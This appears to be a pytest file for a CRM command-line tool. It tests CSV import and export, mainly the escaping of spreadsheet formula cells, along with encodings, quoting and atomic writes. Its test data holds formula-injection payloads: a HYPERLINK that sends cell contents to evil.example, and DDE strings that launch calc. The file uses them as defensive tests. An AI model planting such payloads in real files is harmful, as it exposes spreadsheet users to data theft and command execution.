"""CSV files as owners' spreadsheets make them and open them, through the CLI: formula cells,
leading whitespace, unclosed quotes, large cells, NUL characters, encodings, header-less files;
and every file relationkit writes replaced atomically."""

from __future__ import annotations

import csv
import io
import os
import resource
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import given, settings
from hypothesis import strategies as st

import relationkit
from relationkit.auth import write_private
from relationkit.cli import main
from relationkit.config import Config, update_config
from relationkit.connectors.csv import CsvConnector
from relationkit.connectors.memory import MemoryConnector, memory_backend, reset_memory_backends
from relationkit.csvfiles import MAX_CELL, escape_formula, unescape_formula
from relationkit.errors import InvalidValue
from relationkit.exporters import export_csv
from relationkit.files import write_atomically
from relationkit.importers import import_contacts_csv
from relationkit.sync.contract import Kind
from relationkit.sync.engine import SyncEngine


@pytest.fixture(autouse=True)
def _builtin_plugins(builtin_plugins_only: None) -> None:
    """Every test here runs with relationkit's built-in plugins only (set up before others)."""


@pytest.fixture
def cli(db_url: str):
    def run(*args: str, code: int = 0) -> Result:
        result = CliRunner().invoke(main, ["--db", db_url, *args])
        assert result.exit_code == code, result.output
        assert "Traceback" not in result.output
        return result

    return run


def contacts(db_url: str) -> dict[str, relationkit.models.Contact]:
    with relationkit.open(db_url, config=Config(db_url=db_url)) as ws:
        return {c.emails[0] if c.emails else c.name: c for c in ws.contacts()}


def write(tmp_path: Path, name: str, data: bytes | str) -> str:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return str(path)


# -- formulas --------------------------------------------------------------------------------

ATTACKS = {
    "a@example.com": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "b@example.com": "+1+cmd|' /C calc'!A0",
    "c@example.com": "-2+3+cmd|' /C calc'!A0",
    "d@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
    "e@example.com": "\t=1+1",
    "f@example.com": "\r=1+1",
    "g@example.com": "'=already quoted",
}


def test_export_escapes_every_formula_cell_and_importing_it_reads_them_back(cli, db_url, tmp_path):
    with relationkit.open(db_url, config=Config(db_url=db_url)) as ws:
        for n, (email, notes) in enumerate(ATTACKS.items()):
            ws.add_contact(f"Customer {n}", email=email, notes=notes)
        ws.add_contact("Hal Ames", email="h@example.com", phone="+1 415 555 0134", notes="-5")
    before = contacts(db_url)
    out = tmp_path / "export.csv"
    cli("export", "csv", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    for row in rows:
        for header, cell in row.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                # only a plain number may start so: a spreadsheet reads it as a number
                assert cell.lstrip("+-").replace(".", "").isdigit(), (header, cell)
    by_email = {row["Email"]: row for row in rows}
    assert by_email["a@example.com"]["Notes"] == "'" + ATTACKS["a@example.com"]
    assert by_email["g@example.com"]["Notes"] == "''=already quoted"
    assert by_email["h@example.com"]["Phone"] == "+14155550134"
    assert by_email["h@example.com"]["Notes"] == "-5"
    result = cli("import", "csv", str(out))
    assert "unchanged: 8" in result.output
    assert contacts(db_url) == before

    raw = cli("export", "csv", "--raw").stdout
    raw_rows = {r["Email"]: r for r in csv.DictReader(io.StringIO(raw))}
    assert {email: raw_rows[email]["Notes"] for email in ATTACKS} == ATTACKS


def test_escaping_round_trips_any_text() -> None:
    for text in ["", "'", "''=", "=", "-", "-5", "+1", "1-2", " =x", "'x", "\t", "@", "a=b"]:
        assert unescape_formula(escape_formula(text)) == text
        escaped = escape_formula(text)
        assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r")) or text in ("-5", "+1")


@settings(max_examples=60, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(
            ["=", "+", "-", "@", "'", "\t", "\r", "\n", " ", "1", "a", ";", '"']
        ),
        max_size=8,
    )
)
def test_any_text_survives_an_export_and_an_import(tmp_path_factory, text):
    """Whatever a customer's notes and custom field hold, exporting and importing the file
    changes nothing (escaping and trimming agree)."""
    folder = tmp_path_factory.mktemp("round")
    url = f"sqlite:///{folder / 'crm.db'}"
    with relationkit.open(url, config=Config(db_url=url)) as ws:
        ws.add_contact("Ann Lee", email="ann@example.com", notes=text, custom={"Code": text})
        before = ws.get_contact("ann@example.com")
        out = folder / "export.csv"
        with out.open("w", encoding="utf-8", newline="") as handle:
            export_csv(ws, handle)
        cells = next(csv.DictReader(out.open(encoding="utf-8", newline="")))
        assert not cells["Notes"].startswith(("=", "+", "-", "@", "\t", "\r")) or (
            cells["Notes"] in ("-1", "+1", "-11", "+11")
        )
        report = import_contacts_csv(ws, out)
        assert (report.unchanged, report.problems) == (1, [])
        assert ws.get_contact("ann@example.com") == before


def test_import_keeps_whitespace_before_a_formula_character(cli, db_url, tmp_path):
    path = write(
        tmp_path,
        "c.csv",
        "Name,Email,Notes,Company,Loyalty\n"
        'Ann Lee,ann@example.com,"\t=1+1","\t@SUM(A1)","  +cmd"\n'
        'Bob Ray,bob@example.com,"  plain note  ", -5 ,"\t12"\n',
    )
    cli("import", "csv", path)
    ann, bob = (contacts(db_url)[e] for e in ("ann@example.com", "bob@example.com"))
    assert (ann.notes, ann.company, ann.custom["Loyalty"]) == ("\t=1+1", "\t@SUM(A1)", "  +cmd")
    assert (bob.notes, bob.company, bob.custom["Loyalty"]) == ("plain note", "-5", "12")


# -- quotes ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "line", "where"),
    [
        (
            'Name,Email,Notes\nAnn Lee,ann@example.com,ok\nBob Ray,bob@example.com,"oops\n'
            "Cat Poe,cat@example.com,hi\nDan Fry,dan@example.com,there\n",
            3,
            "never closes",
        ),
        (  # closed by a stray quote rows later: the rows between would be one cell
            'Name,Email,Notes\nBob Ray,bob@example.com,"oops\nCat Poe,cat@example.com,hi\n'
            'Dan Fry,dan@example.com,"Likes ""roses"" a lot"\nEve Orr,eve@example.com,x\n',
            2,
            "runs on to line 4",
        ),
    ],
)
def test_an_unclosed_quote_refuses_the_file_naming_its_line(
    cli, db_url, tmp_path, text, line, where
):
    result = cli("import", "csv", write(tmp_path, "q.csv", text), code=1)
    assert f"line {line}: a quote" in result.output and where in result.output
    assert "nothing was imported" in result.output
    assert contacts(db_url) == {}


def test_quoted_cells_over_several_lines_and_a_stray_quote_on_one_line_still_import(
    cli, db_url, tmp_path
):
    text = (
        'Name,Email,Notes\nAnn Lee,ann@example.com,"line one\nline two, with a comma"\n'
        '"Bob" Ray,bob@example.com,5\'2"\n'
    )
    cli("import", "csv", write(tmp_path, "ok.csv", text))
    found = contacts(db_url)
    assert found["ann@example.com"].notes == "line one\nline two, with a comma"
    assert found["bob@example.com"].name == "Bob Ray"


# -- large cells -----------------------------------------------------------------------------


def test_cells_up_to_the_limit_import_and_a_larger_one_leaves_only_its_row_out(
    cli, db_url, tmp_path
):
    big, huge = "x" * 200_000, "y" * (MAX_CELL + 1)
    text = (
        f'Name,Email,Notes\nAnn Lee,ann@example.com,{big}\nBob Ray,bob@example.com,"{huge}"\n'
        "Cat Poe,cat@example.com,ok\n"
    )
    result = cli("import", "csv", write(tmp_path, "big.csv", text), code=3)
    assert "more than the 1,048,576" in result.output and "big.csv" in result.output
    assert "rejected: 1" in result.output
    found = contacts(db_url)
    assert set(found) == {"ann@example.com", "cat@example.com"}
    assert found["ann@example.com"].notes == big


# -- NUL characters --------------------------------------------------------------------------


def test_nul_characters_are_removed_with_a_problem_at_every_entrance(cli, db_url, tmp_path):
    text = "Name,Email,Notes\nAnn\x00 Lee,ann@example.com,rose\x00s\nBob Ray,bob@example.com,ok\n"
    result = cli("import", "csv", write(tmp_path, "nul.csv", text))
    assert result.output.count("NUL character(s) (U+0000) removed") == 2
    assert "created: 2" in result.output
    ann = contacts(db_url)["ann@example.com"]
    assert (ann.name, ann.notes) == ("Ann Lee", "roses")

    config = Config(db_url=db_url)
    with relationkit.open(db_url, config=config) as ws:
        with pytest.raises(InvalidValue, match=r"U\+0000"):
            ws.add_contact("Cat\x00 Poe", email="cat@example.com")
        assert "cat@example.com" not in contacts(db_url)

        synced = tmp_path / "synced.csv"
        synced.write_text(
            "id,display_name,emails,notes\nr1,Dan Fry,dan@example.com,likes\x00 tulips\n",
            encoding="utf-8",
        )
        report = SyncEngine(ws).run([CsvConnector(ws, {"path": str(synced)})])
        assert report.ok
        assert [p.field for p in report.problems if "U+0000" in p.why] == ["notes"]
        assert ws.get_contact("dan@example.com").notes == "likes tulips"
        again = SyncEngine(ws).run([CsvConnector(ws, {"path": str(synced)})])
        assert again.ok  # the connector is not blocked
        assert "\x00" not in synced.read_text(encoding="utf-8")  # the clean value went back

        reset_memory_backends()
        backend = memory_backend("nul")  # a connector handing over values as pulled
        backend.add(Kind.CONTACT, {"display_name": "Eve\x00 Orr", "emails": ["eve@example.com"]})
        report = SyncEngine(ws).run([MemoryConnector(ws, {"backend": "nul"})])
        assert report.ok
        assert [p.field for p in report.problems if "U+0000" in p.why] == ["display_name"]
        assert ws.get_contact("eve@example.com").name == "Eve Orr"


def test_the_csv_connector_escapes_formulas_and_refuses_an_unclosed_quote(ws, tmp_path):
    path = tmp_path / "contacts.csv"
    ws.add_contact("Ann Lee", email="ann@example.com", notes="=1+1")
    assert SyncEngine(ws).run([CsvConnector(ws, {"path": str(path)})]).ok
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert rows[0]["notes"] == "'=1+1"
    with path.open("a", encoding="utf-8", newline="") as handle:
        handle.write(',,Bob Ray,,,bob@example.com,,,,,,"unclosed,,,,\n,,Cat Poe,,,cat@x.com\n')
    report = SyncEngine(ws).run([CsvConnector(ws, {"path": str(path)})])
    assert report.connectors["csv"].failed and "a quote" in " ".join(report.messages)
    assert [c.name for c in ws.contacts()] == ["Ann Lee"]
    assert ws.get_contact("ann@example.com").notes == "=1+1"


def test_text_written_by_any_other_way_reaches_the_database_without_nul(ws, caplog):
    """The store's last guard: an interaction's summary or a purchase's note given through the
    API with a NUL is stored without it (PostgreSQL refuses NUL in text), with a warning."""
    ann = ws.add_contact("Ann Lee", email="ann@example.com")
    ws.record_interaction(ann, "call", "asked\x00 about roses")
    ws.record_purchase(ann, "12.50", items="rose\x00s", note="gift\x00")
    assert [i.summary for i in ws.interactions(ann)] == ["asked about roses"]
    assert [(p.items, p.note) for p in ws.purchases(ann)] == [("roses", "gift")]
    assert "NUL character(s) (U+0000) removed" in caplog.text and "rose" not in caplog.text


# -- encodings -------------------------------------------------------------------------------

ROWS = [["Name", "Email", "City"], ["Zoë Ünal", "zoe@example.com", "Köln"]]


def _table(delimiter: str) -> str:
    return "".join(delimiter.join(row) + "\r\n" for row in ROWS)


@pytest.mark.parametrize(
    ("data", "read_as"),
    [
        (_table("\t").encode("utf-16"), "UTF-16 (Excel's Unicode Text), tab-separated"),
        (b"\xfe\xff" + _table("\t").encode("utf-16-be"), "UTF-16 big-endian, tab-separated"),
        (_table(",").encode("utf-16-le"), "UTF-16 (no byte-order mark), comma-separated"),
        (_table(";").encode("utf-8-sig"), "UTF-8 with a byte-order mark, semicolon-separated"),
        (_table(",").encode("utf-8"), "UTF-8, comma-separated"),
        (_table(",").encode("cp1252"), "Windows-1252 (it is not UTF-8), comma-separated"),
    ],
)
def test_encodings_are_found_and_reported(cli, db_url, tmp_path, data, read_as):
    result = cli("import", "csv", write(tmp_path, "enc.csv", data))
    assert f"read as {read_as}" in result.output
    zoe = contacts(db_url)["zoe@example.com"]
    assert (zoe.name, zoe.address.city if zoe.address else "") == ("Zoë Ünal", "Köln")


def test_an_encoding_can_be_named(cli, db_url, tmp_path):
    path = write(tmp_path, "mac.csv", _table(",").encode("mac-roman"))
    cli("import", "csv", path, "--encoding", "mac-roman")
    assert contacts(db_url)["zoe@example.com"].name == "Zoë Ünal"
    result = cli("import", "csv", path, "--encoding", "utf-8", code=1)
    assert "is not utf-8 text" in result.output
    result = cli("import", "csv", path, "--encoding", "klingon", code=1)
    assert "is not an encoding" in result.output


# -- header rows -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "first",
    [
        "Ann Lee,ann@example.com,(415) 555-0134",
        "Ann Lee,2024-03-14,roses",
        "Ann Lee,+44 20 7946 0958,x",
    ],
)
def test_a_file_without_a_header_row_is_refused(cli, db_url, tmp_path, first):
    path = write(tmp_path, "nh.csv", f"{first}\nBob Ray,bob@example.com,(415) 555-0199\n")
    result = cli("import", "csv", path, code=1)
    assert "row 1 is not a header row" in result.output and "nothing was imported" in result.output
    assert "column 2 holds" in result.output and first.split(",")[1] not in result.output
    assert contacts(db_url) == {}


def test_purchases_without_a_header_row_are_refused(cli, db_url, tmp_path):
    path = write(tmp_path, "p.csv", "2026-05-02,A-1,ann@example.com,129.90\n")
    result = cli("import", "purchases", path, code=1)
    assert "row 1 is not a header row" in result.output


def test_a_header_relationkit_does_not_know_is_still_a_header(cli, db_url, tmp_path):
    path = write(tmp_path, "h.csv", "Kunde,E-Mail,Stadt\nAnn Lee,ann@example.com,Köln\n")
    cli("import", "csv", path, "--map", "Kunde=name")
    assert contacts(db_url)["ann@example.com"].name == "Ann Lee"


# -- atomic writes ---------------------------------------------------------------------------


def _limited(limit: int):
    def start() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return start


def test_an_export_that_fails_midway_leaves_the_previous_export_intact(cli, db_url, tmp_path):
    with relationkit.open(db_url, config=Config(db_url=db_url)) as ws:
        for n in range(100):
            ws.add_contact(f"Customer {n}", email=f"c{n}@example.com", notes="n" * 5_000)
    out = tmp_path / "export.csv"
    cli("export", "csv", str(out))
    good = out.read_bytes()
    assert len(good) > 500_000
    with relationkit.open(db_url, config=Config(db_url=db_url)) as ws:
        ws.add_contact("One More", email="more@example.com")
    env = {**os.environ, "RELATIONKIT_LOAD_PLUGINS": ""}
    command = [sys.executable, "-c", "from relationkit.cli import main; main()"]
    command += ["--db", db_url, "export", "csv", str(out)]
    result = subprocess.run(
        command, env=env, capture_output=True, text=True, preexec_fn=_limited(300_000), timeout=120
    )
    assert result.returncode == 1, result.stderr
    assert f"cannot write {out}: File too large; {out} is as it was" in result.stderr
    assert "Traceback" not in result.stderr
    assert out.read_bytes() == good
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".export.csv")] == []


def test_a_failed_write_keeps_the_file_and_a_replaced_file_keeps_its_mode(tmp_path):
    path = tmp_path / "file.txt"
    path.write_text("old")
    path.chmod(0o640)
    with pytest.raises(RuntimeError), write_atomically(path) as handle:
        handle.write("new, half")
        raise RuntimeError("the disk is full")
    assert path.read_text() == "old" and list(tmp_path.iterdir()) == [path]
    with write_atomically(path) as handle:
        handle.write("new")
    assert path.read_text() == "new" and stat.S_IMODE(path.stat().st_mode) == 0o640


def test_a_linked_file_is_replaced_through_its_link(tmp_path):
    target = tmp_path / "shared" / "export.csv"
    target.parent.mkdir()
    target.write_text("old")
    link = tmp_path / "export.csv"
    link.symlink_to(target)
    with write_atomically(link) as handle:
        handle.write("new")
    assert link.is_symlink() and target.read_text() == "new"


def test_unmatched_purchase_lines_are_written_escaped_and_read_back(cli, db_url, tmp_path):
    path = write(tmp_path, "p.csv", "Date,Email,Amount,Note\n2026-05-02,x@example.com,5,=1+1\n")
    unmatched = tmp_path / "fix.csv"
    cli("import", "purchases", path, "--unmatched", str(unmatched), code=3)
    assert unmatched.read_text(encoding="utf-8").splitlines()[1].endswith(",'=1+1")
    with relationkit.open(db_url, config=Config(db_url=db_url)) as ws:
        ws.add_contact("Xan Ye", email="x@example.com")
    cli("import", "purchases", str(unmatched))
    with relationkit.open(db_url, config=Config(db_url=db_url)) as ws:
        assert [p.note for p in ws.purchases("x@example.com")] == ["=1+1"]


def test_secrets_stay_private_and_the_config_keeps_its_mode(tmp_path):
    token = tmp_path / "google-token.json"
    write_private(token, '{"refresh_token": "secret"}')
    token.chmod(0o644)  # even when someone loosened it
    write_private(token, '{"refresh_token": "new"}')
    assert stat.S_IMODE(token.stat().st_mode) == 0o600
    config = tmp_path / "config.toml"
    config.write_text("# mine\n")
    config.chmod(0o600)
    update_config("connectors.csv", {"path": "a.csv"}, config)
    assert stat.S_IMODE(config.stat().st_mode) == 0o600
    assert config.read_text().startswith("# mine")
